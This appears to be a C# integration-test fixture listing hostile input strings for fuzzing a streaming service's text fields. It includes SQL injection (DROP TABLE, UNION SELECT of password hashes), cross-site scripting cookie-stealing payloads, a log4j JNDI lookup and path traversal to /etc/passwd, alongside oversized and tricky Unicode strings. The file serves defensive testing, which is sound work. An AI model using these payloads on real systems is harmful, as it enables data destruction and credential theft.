namespace Streamflix.IntegrationTests.Hostile;

/// <summary>The strings thrown at every text field. Lone surrogates cannot travel in protobuf (UTF-8 only).</summary>
public static class HostileStrings
{
    public const int OneMebibyte = 1024 * 1024;

    public static IReadOnlyList<HostileValue> All { get; } =
    [
        // Under the 4 MiB message limit, so the service itself must refuse them, not the transport.
        new(HostileCategory.Oversized, "1 MiB of 'a'", new string('a', OneMebibyte), AlwaysInvalid: true),
        new(HostileCategory.Oversized, "256 Ki emoji (1 MiB of UTF-8)", string.Concat(Enumerable.Repeat("🎬", OneMebibyte / 4)), AlwaysInvalid: true),
        new(HostileCategory.Oversized, "64 KiB of digits", new string('7', 64 * 1024), AlwaysInvalid: true),

        // Postgres text cannot hold U+0000: it must be refused before a query, not crash one.
        new(HostileCategory.Unicode, "NUL inside", "ab\0cd", AlwaysInvalid: true),
        new(HostileCategory.Unicode, "NUL only", "\0", AlwaysInvalid: true),
        new(HostileCategory.Unicode, "right-to-left override", "abc\u202Egpj.exe", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "zero-width space and joiner", "a\u200Bb\u200Dc\u2060", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "combining marks pile", "e" + new string('\u0301', 200), AlwaysInvalid: false),
        new(HostileCategory.Unicode, "emoji with ZWJ sequence", "👩‍👩‍👧‍👦🎬🍿", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "Cyrillic homoglyphs", "аdmin@streamflix.local", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "BOM and noncharacter", "\uFEFFtitle\uFFFF", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "line and paragraph separators", "a\u2028b\u2029c", AlwaysInvalid: false),
        new(HostileCategory.Unicode, "whitespace only", " \t\r\n ", AlwaysInvalid: false),

        new(HostileCategory.SqlInjection, "tautology", "' OR '1'='1", AlwaysInvalid: false),
        new(HostileCategory.SqlInjection, "stacked drop", "x'); DROP TABLE accounts; --", AlwaysInvalid: false),
        new(HostileCategory.SqlInjection, "pg_sleep", "1; SELECT pg_sleep(10)--", AlwaysInvalid: false),
        new(HostileCategory.SqlInjection, "LIKE wildcards", "%_%\\", AlwaysInvalid: false),
        new(HostileCategory.SqlInjection, "union select", "\" UNION SELECT password_hash FROM accounts --", AlwaysInvalid: false),

        new(HostileCategory.ScriptInjection, "script tag", "<script>alert(document.cookie)</script>", AlwaysInvalid: false),
        new(HostileCategory.ScriptInjection, "attribute breakout", "\"><img src=x onerror=alert(1)>", AlwaysInvalid: false),
        new(HostileCategory.ScriptInjection, "javascript URL", "javascript:alert(1)", AlwaysInvalid: false),
        new(HostileCategory.ScriptInjection, "template and log4j", "{{7*7}}${jndi:ldap://x/a}%s%n{0}", AlwaysInvalid: false),

        new(HostileCategory.Traversal, "dot dot slash", "../../../etc/passwd", AlwaysInvalid: false),
        new(HostileCategory.Traversal, "encoded dot dot", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", AlwaysInvalid: false),
        new(HostileCategory.Traversal, "double encoded", "%252e%252e%252fetc", AlwaysInvalid: false),
        new(HostileCategory.Traversal, "backslashes", "..\\..\\windows\\win.ini", AlwaysInvalid: false),
        new(HostileCategory.Traversal, "overlong UTF-8 dots (as text)", "%c0%ae%c0%ae%c0%af", AlwaysInvalid: false),
    ];
}
